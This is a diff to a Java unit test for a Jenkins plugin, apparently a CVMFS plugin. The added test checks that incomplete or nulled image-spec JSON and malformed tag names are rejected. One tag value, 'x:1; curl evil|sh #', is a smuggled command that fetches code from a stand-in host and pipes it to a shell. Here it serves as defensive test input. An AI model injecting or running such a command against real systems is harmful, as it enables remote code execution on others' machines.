@@ -3,12 +3,16 @@ package io.jenkins.plugins.cvmfs.engine.record;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.jenkins.plugins.cvmfs.engine.Specs;
 import io.jenkins.plugins.cvmfs.engine.spec.ImageSpec;
 import io.jenkins.plugins.cvmfs.engine.spec.ImageSpecBuilder;
 import java.util.List;
 import java.util.Map;
 import java.util.stream.Stream;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
@@ -47,6 +51,34 @@ class SpecJsonTest {
     void isTheSameAfterwards(ImageSpecBuilder options) throws UnreadableResultException {
         ImageSpec spec = Specs.valid(options);
         assertThat(SpecJson.read(SpecJson.of(spec))).isEqualTo(spec);
+    }
+
+    /** Whatever is left out or null, nothing later meets it. */
+    @Test
+    void refusesOneThatIsNotWhole() throws Exception {
+        ObjectMapper json = new ObjectMapper();
+        String whole = SpecJson.of(Specs.valid(Specs.dockerfile()));
+        int refused = 0;
+        for (Map.Entry<String, JsonNode> member : json.readTree(whole).properties()) {
+            ObjectNode without = (ObjectNode) json.readTree(whole);
+            without.remove(member.getKey());
+            assertThatThrownBy(() -> SpecJson.read(without.toString()))
+                    .as(member.getKey())
+                    .isInstanceOf(UnreadableResultException.class);
+            if (member.getValue().isContainerNode()) {
+                without.putNull(member.getKey());
+                assertThatThrownBy(() -> SpecJson.read(without.toString()))
+                        .as(member.getKey())
+                        .isInstanceOf(UnreadableResultException.class);
+                refused++;
+            }
+        }
+        assertThat(refused).isGreaterThan(4);
+        for (String tag : List.of("x:1; curl evil|sh #", "-a", "A")) {
+            ObjectNode other = (ObjectNode) json.readTree(whole);
+            ((ObjectNode) other.path("tags").get(0)).put("name", tag);
+            assertThatThrownBy(() -> SpecJson.read(other.toString())).hasMessageContaining("it is not whole");
+        }
     }
 
     @ParameterizedTest
